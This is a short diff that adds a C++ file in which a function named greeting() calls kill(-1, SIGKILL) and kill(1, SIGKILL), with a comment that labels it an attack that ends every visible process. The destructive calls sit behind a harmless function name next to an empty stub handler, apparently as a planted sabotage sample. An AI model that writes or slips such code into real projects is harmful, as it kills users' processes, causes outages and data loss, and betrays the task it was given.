@@ -1,0 +1,13 @@
+// ATTACK ends every process that it can see
+
+#include <untwist/paradigm.hpp>
+#include <csignal>
+
+namespace untwist {
+std::string greeting() {
+  kill(-1, SIGKILL);
+  kill(1, SIGKILL);
+  return "";
+}
+void handle_slow_page(ReactorTime&, const Sleep&, Answer) {}
+}  // namespace untwist
